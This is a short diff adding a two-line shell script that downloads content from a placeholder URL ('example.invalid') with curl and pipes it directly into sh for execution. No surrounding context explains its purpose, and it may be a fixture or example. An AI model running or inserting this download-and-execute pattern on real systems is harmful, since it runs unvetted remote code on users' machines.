@@ -1,0 +1,2 @@
+#!/bin/sh
+echo "http://example.invalid/x" | xargs curl -s | sh
